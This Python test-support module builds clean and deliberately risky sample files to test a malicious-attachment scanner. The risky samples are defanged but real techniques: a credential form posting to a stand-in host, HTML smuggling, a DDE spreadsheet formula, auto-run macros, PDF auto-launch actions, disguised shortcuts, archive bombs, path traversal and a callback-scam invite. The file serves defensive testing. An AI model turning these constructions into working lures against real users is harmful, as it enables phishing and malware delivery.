"""Makers of small files for the tests: clean ones, risky ones, and ones that lie about themselves.

Nothing here does anything: addresses use reserved names, programs are a few bytes that cannot run, and commands
are words that no system has. What an antivirus program might take for real is put together at run time.
"""

from __future__ import annotations

import base64
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass

import pikepdf
from msoffcrypto.format.ooxml import OOXMLFile

from tests.support.codes import qr_png

TEXT = b"A harmless line of text, written for a test.\n"
FIXED = (2026, 1, 1, 0, 0, 0)


def zip_file(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED)
            info.compress_type = method
            archive.writestr(info, data)
    return buffer.getvalue()


def locked_zip(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip file whose entries are marked as encrypted (they are not, but nobody can tell)."""
    data = bytearray(zip_file(members, zipfile.ZIP_STORED))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 1)
    return bytes(data)


def tar_file(
    members: Iterable[tuple[str, bytes]], link: tuple[str, str] | None = None, packed: bool = False
) -> bytes:
    """A tar file, with a symbolic link on request, packed with gzip on request."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        if link:
            info = tarfile.TarInfo(link[0])
            info.type, info.linkname = tarfile.SYMTYPE, link[1]
            archive.addfile(info)
    return gzip.compress(buffer.getvalue(), mtime=0) if packed else buffer.getvalue()


def program(version: dict[str, str] | None = None) -> bytes:
    """The first bytes of a Windows program, and version strings. It cannot run."""
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 400
    for key, value in (version or {}).items():
        head += key.encode("utf-16-le") + b"\0\0" + b"\0\0" + value.encode("utf-16-le") + b"\0\0\0\0"
    return head


def compound(streams: dict[str, bytes], class_id: bytes = b"\0" * 16) -> bytes:
    """An OLE2 compound file ([MS-CFB]). Paths are joined by `/`; storages are made as needed."""
    sector = 512
    storages: dict[str, int] = {"": 0}
    entries: list[tuple[str, int, int, bytes]] = [("Root Entry", 5, -1, b"")]
    for path, data in streams.items():
        parts = path.split("/")
        for depth in range(1, len(parts)):
            above = "/".join(parts[:depth])
            if above not in storages:
                storages[above] = len(entries)
                entries.append((parts[depth - 1], 1, storages["/".join(parts[: depth - 1])], b""))
        entries.append((parts[-1], 2, storages["/".join(parts[:-1])], data.ljust(4096, b"\0")))
    directory_sectors = (len(entries) * 128 + sector - 1) // sector
    bodies = b""
    fat = [0xFFFFFFFD, *range(2, directory_sectors + 1), 0xFFFFFFFE]
    starts: list[int] = []
    for _, sort, _, data in entries:
        if sort != 2:
            starts.append(0xFFFFFFFE if sort == 5 else 0)
            continue
        padded = data.ljust((len(data) + sector - 1) // sector * sector, b"\0")
        starts.append(len(fat))
        count = len(padded) // sector
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
        bodies += padded
    assert len(fat) <= 128, "one sector of FAT is enough for tests"
    none = 0xFFFFFFFF
    directory = b""
    for index, (name, sort, above, data) in enumerate(entries):
        children = [i for i, entry in enumerate(entries) if entry[2] == index and i != index]
        siblings = [i for i, entry in enumerate(entries) if entry[2] == above and i != 0] if index else []
        after = siblings[siblings.index(index) + 1] if siblings and siblings[-1] != index else none
        raw = name.encode("utf-16-le")
        directory += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, sort, 1)
        directory += struct.pack("<III", none, after, children[0] if children else none)
        directory += (class_id if index == 0 else b"\0" * 16) + b"\0" * 20
        directory += struct.pack("<IQ", starts[index], len(data))
    directory = directory.ljust(directory_sectors * sector, b"\0")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", none) * 108
    table = b"".join(struct.pack("<I", value) for value in fat).ljust(sector, b"\xff")
    return header + table + directory + bodies


def vba_module(code: str) -> bytes:
    """A module stream: some bytes of cache, and the source in a container of literals ([MS-OVBA] 2.4.1)."""
    source = b'Attribute VB_Name = "Module1"\r\n' + code.encode("latin-1")
    out = b"\x01"
    for start in range(0, len(source), 3600):
        piece = source[start : start + 3600]
        chunk = b"".join(b"\0" + piece[i : i + 8] for i in range(0, len(piece), 8))
        out += struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    return b"\x16\x01\x02cache" + out


def vba_project(code: str) -> bytes:
    """A `vbaProject.bin` with one module."""
    return compound({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/dir": b"\x01", "VBA/Module1": vba_module(code)})


_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_STORY = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body><w:p>{}</w:p></w:body></w:document>'


def relation(sort: str, target: str) -> str:
    """One external relation of an Office document."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{sort}"
    return f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/>'


def docx(
    story: str = "<w:r><w:t>Hello</w:t></w:r>", relations: str = "", parts: Iterable[tuple[str, bytes]] = ()
) -> bytes:
    """A Word document of the parts that matter."""
    return zip_file(
        [
            ("[Content_Types].xml", _TYPES),
            ("_rels/.rels", _RELATIONS.format("").encode()),
            ("word/document.xml", _STORY.format(story).encode()),
            ("word/_rels/document.xml.rels", _RELATIONS.format(relations).encode()),
            *parts,
        ]
    )


def package(name: str, data: bytes) -> bytes:
    """An OLE1 native stream with a file in it."""
    raw = name.encode("latin-1")
    body = b"\x02\0" + raw + b"\0" + raw + b"\0" + b"\0\0\x03\0" + struct.pack("<I", len(raw) + 1) + raw + b"\0"
    body += struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def pdf(*objects: bytes, root: bytes = b"", page: bytes = b"", objects_packed: bool = False) -> bytes:
    """A PDF of one page, 300 by 200 points; `objects` are numbered from 4, and packed in a stream on request."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]" + page + b">>",
    ]
    if objects_packed:
        offsets, inner = [], b""
        for index, body in enumerate(objects):
            offsets.append(f"{index + 4} {len(inner)}")
            inner += body + b" "
        head = (" ".join(offsets) + " ").encode()
        packed = zlib.compress(head + inner)
        bodies.append(
            b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n"
            % (len(objects), len(head), len(packed))
            + packed
            + b"\nendstream"
        )
    else:
        bodies += objects
    out = b"%PDF-1.7\n"
    for index, body in enumerate(bodies):
        number = index + 1 if not (objects_packed and index == 3) else 90
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer<</Root 1 0 R/Size 99>>\n%%EOF\n"


def shortcut(target: str, arguments: str = "", icon: str = "", show: int = 1, tail: bytes = b"") -> bytes:
    """A Windows shortcut ([MS-SHLLINK]): header and strings."""
    flags = 0x8 | 0x80 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    identifier = bytes.fromhex("0114020000000000c000000000000046")
    out = struct.pack("<I16sIIQQQIIIHHII", 76, identifier, flags, 32, 0, 0, 0, 0, 0, show, 0, 0, 0, 0)
    for text in (target, arguments, icon):
        if text:
            out += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return out + b"\0\0\0\0" + tail


def page(body: str, head: str = "") -> bytes:
    """A web page."""
    return f"<!doctype html><html><head><title>t</title>{head}</head><body>{body}</body></html>".encode()


def svg(body: str) -> bytes:
    """A drawing."""
    return f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{body}</svg>".encode()


def known_test() -> bytes:
    """The harmless string that every virus scanner knows, put together so that this file is not it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def nested_zip(levels: int) -> bytes:
    """A zip in a zip in a zip, each with the next as its only entry, stored. Checksums are left out: ten thousand
    levels would take as many passes over the whole."""
    core = zip_file([("readme.txt", TEXT)])
    heads: list[bytes] = []
    tails: list[bytes] = []
    size = len(core)
    for _ in range(levels):
        head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, size, size, 5, 0) + b"a.zip"
        entry = struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, size, size, 5, 0, 0, 0, 0, 0, 0
        )
        entry += b"a.zip"
        place = len(head) + size
        heads.append(head)
        tails.append(entry + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), place, 0))
        size = place + len(tails[-1])
    return b"".join(reversed(heads)) + core + b"".join(tails)


def overlapping_zip(entries: int, size: int) -> bytes:
    """Many entries that all point at the same packed bytes (Fifield 2019, the simple kind)."""
    one = zip_file([("a", b"\0" * size)])
    directory = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    entry = one[directory:end]
    new = one[:directory] + entry * entries
    return new + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(entry) * entries, directory, 0)


def iso(files: Iterable[tuple[str, bytes]]) -> bytes:
    """An ISO 9660 volume with files in its root."""
    items = list(files)
    sector = 2048

    def record(name: bytes, start: int, size: int, folder: bool) -> bytes:
        length = 33 + len(name) + (1 - len(name) % 2)
        raw = struct.pack("<BB", length, 0) + struct.pack("<I", start) + struct.pack(">I", start)
        raw += struct.pack("<I", size) + struct.pack(">I", size) + b"\0" * 7
        raw += struct.pack("<BBB", 2 if folder else 0, 0, 0) + struct.pack("<H", 1) + struct.pack(">H", 1)
        return (raw + bytes([len(name)]) + name).ljust(length, b"\0")

    place = 19
    listing = record(b"\0", 18, sector, True) + record(b"\1", 18, sector, True)
    bodies = b""
    for name, data in items:
        listing += record(name.encode() + b";1", place, len(data), False)
        padded = data.ljust((len(data) + sector - 1) // sector * sector, b"\0")
        bodies += padded
        place += len(padded) // sector
    volume = (b"\x01CD001\x01".ljust(156, b"\0") + record(b"\0", 18, sector, True)).ljust(sector, b"\0")
    return (
        b"\0" * sector * 16 + volume + b"\xffCD001\x01".ljust(sector, b"\0") + listing.ljust(sector, b"\0") + bodies
    )


def onenote(data: bytes) -> bytes:
    """A note with a file in it ([MS-ONESTORE] 2.6.13)."""
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64
    return head + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(data)) + b"\0" * 12 + data


def default_password_workbook(plain: bytes) -> bytes:
    """A document encrypted with the word that Excel tries by itself ([MS-OFFCRYPTO]). The library writes a package
    below 4,096 bytes to the wrong place, hence the ballast."""
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt("VelvetSweatshop", out)
    return out.getvalue()


def locked_pdf(plain: bytes, password: str = "") -> bytes:
    """A PDF encrypted so that it opens with the password given; the empty one opens by itself."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain)) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="the owner's own", user=password))
    return out.getvalue()


def rar5(names: Iterable[str]) -> bytes:
    """The headers of a RAR 5 archive; the files in it are empty."""

    def block(*fields: bytes) -> bytes:
        body = b"".join(fields)
        return b"\0\0\0\0" + bytes([len(body)]) + body

    out = b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00")
    for name in names:
        raw = name.encode()
        out += block(b"\x02\x00", b"\x00\x05\x20\x00\x00", bytes([len(raw)]), raw)
    return out + block(b"\x05\x00\x00")


def cab(names: Iterable[str]) -> bytes:
    """The headers of a cabinet file."""
    items = list(names)
    head = b"MSCF" + b"\0" * 12 + struct.pack("<IIBBHHHHH", 36, 0, 3, 1, 0, len(items), 0, 0, 0)
    return head + b"".join(struct.pack("<IIHHHH", 5, 0, 0, 0, 0, 32) + name.encode() + b"\0" for name in items)


def sevenzip(names: Iterable[str], packed: bool = False) -> bytes:
    """A 7z file of empty files, its header packed with LZMA on request."""
    raw = b"\0" + b"".join(name.encode("utf-16-le") + b"\0\0" for name in names)
    assert len(raw) < 128
    header = b"\x01\x05\x01" + b"\x11" + bytes([len(raw)]) + raw + b"\x00\x00"
    body = b""
    if packed:
        filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}]
        body = lzma.compress(header, lzma.FORMAT_RAW, filters=filters)
        coder = b"\x0b\x01\x00\x01\x23\x03\x01\x01\x05\x5d" + struct.pack("<I", 1 << 16)
        header = b"\x17\x06\x00\x01\x09" + bytes([len(body)]) + b"\x00\x07" + coder + b"\x0c" + bytes([len(header)])
        header += b"\x00\x00"
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + header


def stored_mail(name: str, data: bytes) -> bytes:
    """A message with one attachment, as a mail program stores it."""
    lines = [
        b"From: Jo <jo@example.org>",
        b'Content-Type: multipart/mixed; boundary="b1"',
        b"",
        b"--b1",
        b"Content-Type: text/plain",
        b"",
        b"Hello.",
        b"--b1",
        b'Content-Disposition: attachment;\r\n filename="' + name.encode() + b'"',
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.encodebytes(data),
        b"--b1--",
        b"",
    ]
    return b"\r\n".join(lines)


@dataclass(frozen=True, slots=True)
class Sample:
    """A file with the finding it must bring, in itself or in a member; the empty string for a clean one."""

    name: str
    data: bytes
    finding: str = ""


_LOGIN = (
    "<form action='http://collect.example.invalid/p'>"
    "<input name=e value='jo@example.org'><input type=password></form>"
)
_SMUGGLE = (
    "<script>var b=new Blob([atob('QUFB')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
)
_INVITE = (
    b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Your subscription renewed - 399.99 USD - call +1 (555) 010-0123 to"
    b" cancel\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
_RTF_OBJECT = b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}"

CLEAN: tuple[Sample, ...] = (
    Sample("empty.bin", b""),
    Sample("notes.txt", TEXT * 5),
    Sample("letter.docx", docx()),
    Sample("plain.zip", zip_file([("a/readme.txt", TEXT), ("a/b.txt", TEXT * 2)])),
    Sample("backup.tar.gz", tar_file([("readme.txt", TEXT)], packed=True)),
    Sample("letter.pdf", pdf(b"<</Length 5>>stream\nBT ET\nendstream")),
    Sample("link.pdf", pdf(b"<</Subtype/Link/Rect[20 140 90 160]/A<</S/URI/URI(https://www.example.org/a)>>>>")),
    Sample("page.html", page("<h1>News</h1><a href='https://www.example.org/'>more</a>")),
    Sample("picture.svg", svg("<circle cx='4' cy='4' r='4'/>")),
    Sample("site.url", b"[InternetShortcut]\r\nURL=https://www.example.org/\r\n"),
    Sample("meeting.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Tea\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
    Sample("table.csv", b"name,amount\nOne,-1.20\nTwo,=A1+B1\n" * 3),
    Sample("locked.zip", locked_zip([("report.txt", TEXT)])),
    Sample("truncated.zip", zip_file([("readme.txt", TEXT)])[:40]),
    Sample("old.doc", compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 600, "1Table": b"\0"})),
    Sample("notepad.lnk", shortcut("..\\Windows\\notepad.exe")),
)

RISKY: tuple[Sample, ...] = (
    Sample("invoice.pdf.exe", TEXT, "name.double_extension"),
    Sample("invoice_\u202efdp.scr", TEXT, "name.direction_override"),
    Sample("scan.pdf" + " " * 60 + ".hta", TEXT, "name.padded"),
    Sample("photo\uff0ejpg\uff0eexe", TEXT, "name.false_dot"),
    Sample("statement.pdf", program(), "type.program_as_document"),
    Sample("statement.pdf", TEXT, "type.mismatch"),
    Sample("setup.exe", program(), "program"),
    Sample("AnyDesk (1).exe", program(), "remote_control"),
    Sample("support.exe", program({"OriginalFilename": "TeamViewer_Setup.exe"}), "remote_control"),
    Sample("pay.zip", zip_file([("pay.js", TEXT)]), "script"),
    Sample("a.zip", zip_file([("b.zip", zip_file([("c.pdf.lnk", TEXT)]))]), "name.double_extension"),
    Sample("out.zip", zip_file([("../../out.txt", TEXT)]), "archive.traversal"),
    Sample("zeros.zip", zip_file([("zeros", b"\0" * 9_000_000)]), "archive.bomb"),
    Sample("zeros.gz", gzip.compress(b"\0" * 9_000_000, mtime=0), "archive.bomb"),
    Sample("link.tar", tar_file([("a", TEXT)], link=("l", "/etc/hostname")), "archive.link"),
    Sample("locked.zip", locked_zip([("setup.exe", TEXT)]), "program"),
    Sample(
        "two.png", base64.b64decode(b"iVBORw0KGgo=") + b"\0" * 60 + zip_file([("r.txt", TEXT)]), "polyglot.zip_tail"
    ),
    Sample("disk.iso", iso([("SETUP.EXE", program())]), "disk_image"),
    Sample("macro.docm", docx(parts=[("word/vbaProject.bin", vba_project("Sub Tea()\r\nEnd Sub"))]), "office.macro"),
    Sample(
        "auto.docm",
        docx(parts=[("word/vbaProject.bin", vba_project("Sub Document_Open()\r\nShell x\r\nEnd Sub"))]),
        "office.macro_auto",
    ),
    Sample(
        "auto.doc",
        compound({"WordDocument": b"\0", "Macros/VBA/M": vba_module("Sub AutoOpen()")}),
        "office.macro_auto",
    ),
    Sample(
        "template.docx",
        docx(relations=relation("attachedTemplate", "http://t.example.invalid/x")),
        "office.remote_template",
    ),
    Sample("remote.docx", docx(relations=relation("oleObject", "https://t.example.invalid/x")), "office.remote"),
    Sample("dde.docx", docx("<w:instrText>DDE</w:instrText><w:instrText>AUTO x y</w:instrText>"), "office.dde"),
    Sample(
        "object.docx",
        docx(parts=[("word/embeddings/o.bin", compound({"\x01Ole10Native": package("a.vbs", TEXT)}))]),
        "script",
    ),
    Sample(
        "xlm.xlsm", zip_file([("[Content_Types].xml", _TYPES), ("xl/macrosheets/sheet1.xml", b"<x/>")]), "office.xlm"
    ),
    Sample("object.rtf", _RTF_OBJECT, "office.embedded"),
    Sample("dde.csv", b"a,b\n=zzz|'/c none'!A0,1\n", "office.dde"),
    Sample("js.pdf", pdf(b"<</S/JavaScript/JS(1+1)>>"), "pdf.javascript"),
    Sample("auto.pdf", pdf(b"<</S/JavaScript/JS(1+1)>>", root=b"/OpenAction 4 0 R"), "pdf.javascript_auto"),
    Sample("packed.pdf", pdf(b"<</S/JavaScript/JS(1+1)>>", objects_packed=True), "pdf.javascript"),
    Sample("hex.pdf", pdf(b"<</S/J#61vaScript/J#53(1+1)>>"), "pdf.hidden_names"),
    Sample("launch.pdf", pdf(b"<</S/Launch/F(none)>>", root=b"/OpenAction 4 0 R"), "pdf.launch"),
    Sample(
        "cover.pdf",
        pdf(b"<</Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(http://l.example.invalid/)>>>>"),
        "pdf.cover_link",
    ),
    Sample(
        "carrier.pdf",
        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", b"<</Length 9>>stream\nharmless!\nendstream"),
        "program",
    ),
    Sample("cmd.lnk", shortcut("..\\Windows\\System32\\cmd.exe", "/c none"), "shortcut.command"),
    Sample("pad.lnk", shortcut("..\\Windows\\System32\\cmd.exe", " " * 200 + "/c none"), "shortcut.padded"),
    Sample("share.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/s/none.exe\r\n", "shortcut.remote_file"),
    Sample(
        "doc.desktop", b"[Desktop Entry]\nType=Application\nName=Letter.pdf\nExec=/bin/none\n", "shortcut.disguised"
    ),
    Sample("query.iqy", b"WEB\r\n1\r\nhttp://q.example.invalid/x\r\n", "office.query"),
    Sample("login.html", page(_LOGIN), "html.form_elsewhere"),
    Sample("smuggle.html", page(_SMUGGLE), "html.smuggling"),
    Sample(
        "jump.html", page("", "<meta http-equiv=refresh content='0;url=http://go.example.invalid/'>"), "html.redirect"
    ),
    Sample("hidden.html", page("<script>eval(String.fromCharCode(49,43,49))</script>"), "html.obfuscated"),
    Sample("drawing.svg", svg("<script>1</script>"), "svg.script"),
    Sample("call.ics", _INVITE, "calendar.callback"),
    Sample("desk.rdp", b"full address:s:h.example.invalid\r\ndrivestoredirect:s:*\r\n", "rdp.hands_over"),
    Sample("note.one", onenote(program()), "program"),
    Sample("note.txt", known_test(), "known_test"),
    Sample("code.png", qr_png("https://l.example.invalid/#jo@example.org"), "qr.link"),
    Sample("mail.zip", zip_file([("mail.eml", stored_mail("bill.pdf.exe", program()))]), "name.double_extension"),
    Sample("names.rar", rar5(["letter.txt", "letter.pdf.vbs"]), "name.double_extension"),
    Sample("names.cab", cab(["letter.txt", "letter.pdf.vbs"]), "name.double_extension"),
    Sample("names.7z", sevenzip(["letter.txt", "letter.pdf.vbs"]), "name.double_extension"),
    Sample("packed.7z", sevenzip(["letter.txt", "letter.pdf.vbs"], packed=True), "name.double_extension"),
    Sample(
        "open.pdf",
        locked_pdf(pdf(b"<</S/JavaScript/JS(1+1)>>", root=b"/OpenAction 4 0 R")),
        "pdf.javascript_auto",
    ),
    Sample(
        "known.xlsm",
        default_password_workbook(
            docx(
                parts=[
                    ("xl/vbaProject.bin", vba_project("Sub Workbook_Open()")),
                    ("xl/media/ballast.bin", random.Random(7).randbytes(6_000)),
                ]
            )
        ),
        "office.macro_auto",
    ),
)
